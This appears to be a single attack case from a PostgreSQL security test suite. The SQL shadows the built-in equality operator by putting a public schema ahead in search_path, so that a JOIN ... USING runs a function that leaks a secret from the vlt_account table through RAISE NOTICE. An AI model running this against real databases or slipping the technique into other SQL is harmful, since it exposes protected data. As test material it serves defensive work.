-- Hides the comparison that JOIN ... USING uses.
-- wants: read
-- attack:
CREATE FUNCTION differs(int, int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id OPERATOR(pg_catalog.=) 1); RETURN false; END$$;
CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = differs);
SET search_path = public, pg_catalog;
SELECT 1 FROM mallory_own JOIN item USING (id);
